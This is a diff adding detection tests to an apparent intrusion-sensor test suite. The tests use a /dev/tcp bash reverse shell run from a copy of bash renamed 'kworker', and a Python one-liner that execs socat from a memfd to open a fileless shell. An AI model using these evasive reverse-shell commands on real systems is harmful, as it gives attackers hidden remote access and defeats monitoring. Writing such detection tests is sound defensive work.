@@ -466,3 +466,25 @@ def test_benign_inbound_ssh_login_with_pty_and_outbound_ssh_tt(sensorlab, netlab
     assert sensorlab.wait_for(lambda e: isinstance(e, Exec) and e.filename.endswith("sshd"), since=mark)
     assert sensorlab.wait_for(lambda e: isinstance(e, Connect) and e.dport == port, since=mark)
     quiet(sensorlab.alerts_since(amark, settle=1.5))
+
+
+# ------------------------------------------------------------------ executables by what they are
+
+def test_renamed_copy_of_bash_is_bash(sensorlab, netlab, tmp_path) -> None:
+    """A copy of bash under another name, used for the /dev/tcp reverse shell, is recognised by its content."""
+    fake = tmp_path / "kworker"
+    shutil.copy("/usr/bin/bash", fake)
+    alert = reverse(sensorlab, netlab, f"{fake} -c '{fake} -i >& /dev/tcp/{{host}}/{{port}} 0>&1'",
+                    signal="stdio_to_socket")
+    assert alert["process"]["executable"] == str(fake)
+
+
+MEMFD_SOCAT = ("import os,sys;fd=os.memfd_create('svc');os.write(fd,open('/usr/bin/socat','rb').read());"
+               "os.execve(f'/proc/self/fd/{{fd}}',['svc','TCP:{host}:{port}','EXEC:/bin/sh'],dict(os.environ))")
+
+
+def test_memfd_socat_is_socat_and_fileless(sensorlab, netlab) -> None:
+    """socat run from a memfd under another name: a tunnel tool by its content, and a fileless exec."""
+    need("socat")
+    alert = reverse(sensorlab, netlab, f"python3 -c \"{MEMFD_SOCAT}\"", signal="tunnel_tool")
+    assert "fileless_exec" in alert["chainwatch"]["signals"], alert["chainwatch"]["signals"]
